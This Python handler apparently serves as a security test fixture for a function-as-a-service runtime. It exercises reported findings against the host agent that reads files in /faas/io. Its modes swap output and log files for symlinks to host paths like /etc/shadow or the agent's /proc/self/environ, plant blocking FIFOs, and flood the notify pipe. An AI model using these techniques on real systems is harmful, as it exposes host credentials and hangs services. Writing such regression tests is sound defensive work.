"""Attacks the agent through the files of /faas/io, which the agent reads
on the host once the run is over (issue 10, findings 1, 3, 4 and 5).

{"mode": "symlink", "entry": "log" | "output.json" | "error.json",
 "target": "<host path>"}
    Replaces the entry with a symlink to a path that only means something
    on the host (/etc/shadow, the agent's /proc/self/environ, another call's
    io/env, ...). For `log` it returns normally (faas-init then fails to
    write its log through the link, which stays); for `output.json` it
    exits 0 at once and for `error.json` 1, so that the bootstrap writes
    nothing over the link and the agent reads what it points to.
    With "result_kb" it first prints nothing and returns that much padding
    (the result beside oversized logs).

{"mode": "fifo", "entry": "log" | "output.json"}
    Replaces the entry with a FIFO nobody writes: a blocking open of it
    never returns. For `log` faas-init itself blocks writing its log, so
    the call runs into its timeout; for `output.json` the run exits 0.

{"mode": "notify", "mib": N, "hold_s": S}
    Writes N MiB without a newline into the notify FIFO (read line by line
    by the agent), then waits S seconds before returning.

{"mode": "hold", "s": S, "tmp_secret": "..."}
    The victim: keeps a secret in its /tmp (its env, from the deploy, holds
    another) for S seconds.

{"mode": "echo"} (and anything else): returns the event.
"""
import os
import time

IO = "/faas/io"


def replace(entry, make):
    path = os.path.join(IO, entry)
    try:
        os.unlink(path)
    except FileNotFoundError:
        pass
    make(path)


def handler(event, context):
    mode = event.get("mode")
    if mode == "symlink":
        entry = event["entry"]
        replace(entry, lambda path: os.symlink(event["target"], path))
        if entry == "output.json":
            os._exit(0)
        if entry == "error.json":
            os._exit(1)
        return {"padding": "p" * (int(event.get("result_kb", 0)) << 10)}
    if mode == "fifo":
        entry = event["entry"]
        replace(entry, os.mkfifo)
        if entry == "output.json":
            os._exit(0)
        return {"fifo": entry}
    if mode == "notify":
        chunk = b"x" * (1 << 20)
        fd = os.open(os.path.join(IO, "notify"), os.O_WRONLY)
        for _ in range(int(event["mib"])):
            os.write(fd, chunk)
        time.sleep(float(event.get("hold_s", 0)))
        os.close(fd)
        return {"wrote_mib": int(event["mib"])}
    if mode == "hold":
        with open("/tmp/faas-held-secret", "w") as f:
            f.write(event.get("tmp_secret", ""))
        time.sleep(float(event.get("s", 5)))
        return {"held": True}
    return {"event": event}
